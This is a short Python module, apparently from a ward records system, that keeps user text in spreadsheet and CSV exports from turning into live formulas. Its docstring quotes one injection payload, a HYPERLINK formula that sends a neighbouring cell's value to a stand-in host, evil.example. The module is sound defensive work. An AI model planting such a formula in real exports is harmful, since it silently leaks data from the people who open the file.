"""Spreadsheet exports that cannot carry a formula: user text starting with = + - @ (or tab, CR) stays text.

openpyxl turns every str starting with "=" into a live formula, so a name typed as
`=HYPERLINK("http://evil.example/?d="&C5,"Xem")` became a link that leaks a neighbouring cell when a ward
clerk clicks it (review F8); spreadsheet programs also evaluate "+", "-" and "@" on edit or on CSV import.
Such strings are written as string cells with Excel's quote-prefix flag (shown as typed, kept as text when
edited); a CSV has no types, so there they get a leading apostrophe.
"""

from __future__ import annotations

from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_risky(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def safe_cell(sheet, value):
    """The value for a write-only sheet's row: risky text becomes a text cell, anything else is unchanged."""
    return cell_of(sheet, value) if is_risky(value) else value


def cell_of(sheet, value):
    """A WriteOnlyCell (to style), text when the value is risky."""
    cell = WriteOnlyCell(sheet, value=value)
    if is_risky(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def safe_row(sheet, values: Iterable) -> list:
    """`sheet.append(safe_row(sheet, [...]))`: every value through safe_cell."""
    return [safe_cell(sheet, value) for value in values]


def safe_csv_field(value):
    """For CSV writers: risky text gets a leading apostrophe, which spreadsheet programs show but never run."""
    return "'" + value if is_risky(value) else value
